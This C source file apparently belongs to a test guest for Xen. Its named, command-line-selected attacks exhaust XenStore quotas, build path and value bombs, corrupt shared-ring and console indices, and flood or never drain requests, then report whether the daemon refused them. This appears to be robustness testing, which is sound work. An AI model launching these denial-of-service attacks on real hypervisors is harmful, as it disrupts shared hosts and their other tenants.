#include "attack.h"
#include "console.h"
#include "event.h"
#include "machine.h"
#include "text.h"
#include "xenstore.h"

/* More than any quota; who reaches it has found a daemon without one. */
#define MANY 100000
/* So many requests or lines before the other things are looked at. */
#define AT_ONCE 16
/* XenStore's limits: of a message, and of a path. */
#define PAYLOAD_MAX XENSTORE_PAYLOAD_MAX
#define PATH_MAX 2048

static const char flood_path[] = "data/flood";
static char bulk[PAYLOAD_MAX];

/* --- hoards: as much as there is to be had; then the guest goes on as a good one --------------------- */

static void say_hoard(const char *what, unsigned count, bool is_refused)
{
    print("HOARD ");
    print(what);
    print(" ");
    print_number(count);
    print(" ");
    print(is_refused ? store_answer : "no end");
    print_end();
}

static void hoard_watches(void)
{
    char path[40], token[11];
    unsigned count = 0;

    while (count < MANY) {
        memcpy(path, "data/watched/", 14);
        format_decimal(path + 13, count);
        format_decimal(token, count);
        if (!store_request(XS_WATCH, 0, path, length(path) + 1, token, length(token) + 1)) break;
        count++;
    }
    say_hoard("watches", count, count < MANY);
}

/* Each transaction has nodes of its own and has read what the others of the domain write. */
static void hoard_transactions(void)
{
    char path[40];
    unsigned count = 0;

    while (count < MANY) {
        if (!store_request(XS_TRANSACTION_START, 0, "", 1, NULL, 0)) break;
        uint32_t transaction = parse_decimal(store_answer);
        count++;
        for (unsigned i = 0; i < 64; i++) {
            memcpy(path, "data/hoarded/", 14);
            format_decimal(path + 13, i);
            if (!store_request(XS_WRITE, transaction, path, length(path) + 1, bulk, 1000)) break;
        }
    }
    say_hoard("transactions", count, count < MANY);
}

/* As many levels as a path can have, one request for each hundred; then all of it goes in one request. */
static void bomb_paths(void)
{
    static char path[PATH_MAX + 1];
    size_t size = 9;
    unsigned levels = 0;
    bool is_refused = false;

    memcpy(path, "data/bomb", 10);
    while (!is_refused && size + 200 <= PATH_MAX) {
        for (unsigned i = 0; i < 100; i++, size += 2) memcpy(path + size, "/n", 3);
        is_refused = !store_write(path, "boom");
        if (!is_refused) levels += 100;
    }
    say_hoard("levels", levels, is_refused);
    bool is_removed = store_remove("data/bomb");
    print("REMOVED ");
    print(is_removed ? "OK" : store_answer);
    print_end();
}

/* Nodes with as much as a node may hold, until there may be no more. */
static void bomb_values(void)
{
    char path[40];
    unsigned count = 0;

    if (store_request(XS_WRITE, 0, "data/large", 11, bulk, PAYLOAD_MAX - 11)) {
        print("A NODE OF 4085 BYTES");
        print_end();
    }
    while (count < MANY) {
        memcpy(path, "data/large/", 12);
        format_decimal(path + 11, count);
        if (!store_request(XS_WRITE, 0, path, length(path) + 1, bulk, 1900)) break;
        count++;
    }
    say_hoard("values", count, count < MANY);
    store_remove("data/large");
}

/* --- broken rings: from here on the ring serves nobody ------------------------------------------------- */

static void break_indices(void)
{
    store_abandon();
    write_once(machine.store->req_prod, read_once(machine.store->req_cons) + 0x40000000);
    write_once(machine.store->rsp_cons, 0xdeadbeef);
    notify(machine.store_port);
}

static void send_oversized(void)
{
    struct xsd_sockmsg message = { .type = XS_WRITE, .req_id = 1, .len = 5000 };

    store_abandon();
    store_put(&message, sizeof message);
    notify(machine.store_port);
}

/* A request whose end never comes. */
static void send_half(void)
{
    struct xsd_sockmsg message = { .type = XS_WRITE, .req_id = 1, .len = 100 };

    store_abandon();
    store_put(&message, sizeof message);
    store_put("data/half", 9);
    notify(machine.store_port);
}

static void break_console_indices(void)
{
    console_abandon();
    write_once(machine.console->out_prod, read_once(machine.console->out_cons) + 0x40000000);
    write_once(machine.console->in_cons, 0xdeadbeef);
    notify(machine.console_port);
}

/* --- floods: a little each time -------------------------------------------------------------------------- */

static bool flood_store(void)
{
    for (unsigned i = 0; i < AT_ONCE; i++)
        store_post(XS_WRITE, flood_path, sizeof flood_path, bulk, 100);
    return true;
}

/* Every answer is nearly twice as long as the ring, so that half of it waits at the daemon. */
static bool flood_reads(void)
{
    static bool is_written;

    if (!is_written) is_written = store_request(XS_WRITE, 0, flood_path, sizeof flood_path, bulk, 1900);
    for (unsigned i = 0; i < AT_ONCE; i++) store_post(XS_READ, flood_path, sizeof flood_path, NULL, 0);
    return true;
}

static bool flood_console(void)
{
    for (unsigned i = 0; i < AT_ONCE; i++) {
        print_bytes(bulk, 100);
        print_end();
    }
    return true;
}

/* Requests until the daemon takes no more, because nobody takes the answers. */
static bool never_drain(void)
{
    static struct {
        struct xsd_sockmsg header;
        char path[sizeof flood_path];
    } message;
    static size_t put;

    store_abandon();
    message.header = (struct xsd_sockmsg){ .type = XS_READ, .req_id = 1, .len = sizeof flood_path };
    memcpy(message.path, flood_path, sizeof flood_path);
    size_t size = sizeof message.header + sizeof message.path;
    size_t taken = store_put((const char *)&message + put, size - put);
    put = (put + taken) % size;
    notify(machine.store_port);
    return taken > 0;
}

/* --- by name ------------------------------------------------------------------------------------------------ */

struct attack {
    const char *name;
    void (*begin)(void);
    bool (*go_on)(void);
};

static const struct attack attacks[] = {
    { "watch-hoard", hoard_watches, NULL },
    { "transaction-hoard", hoard_transactions, NULL },
    { "path-bomb", bomb_paths, NULL },
    { "value-bomb", bomb_values, NULL },
    { "bad-index", break_indices, NULL },
    { "oversized", send_oversized, NULL },
    { "half-request", send_half, NULL },
    { "bad-console-index", break_console_indices, NULL },
    { "flood-store", NULL, flood_store },
    { "flood-reads", NULL, flood_reads },
    { "flood-console", NULL, flood_console },
    { "no-drain", NULL, never_drain },
};
#define ATTACKS (sizeof attacks / sizeof *attacks)

static bool is_going_on[ATTACKS];

static void begin(const char *names)
{
    for (size_t i = 0; i < ATTACKS; i++) {
        const char *rest = after(names, attacks[i].name);
        if (!rest || (*rest && *rest != ',' && *rest != ' ')) continue;
        print("ATTACK ");
        print(attacks[i].name);
        print_end();
        if (attacks[i].begin) attacks[i].begin();
        else is_going_on[i] = true;
        return;
    }
    print("? attack=");
    print(names);
    print_end();
}

void attack_begin(void)
{
    const char *names = find_word(machine.command_line, "attack=");

    if (!names) return;
    memset(bulk, 'x', sizeof bulk);
    for (;;) {
        begin(names);
        while (*names && *names != ',' && *names != ' ') names++;
        if (*names++ != ',') return;
    }
}

bool attack_go_on(void)
{
    bool is_busy = false;

    for (size_t i = 0; i < ATTACKS; i++)
        if (is_going_on[i] && attacks[i].go_on()) is_busy = true;
    return is_busy;
}
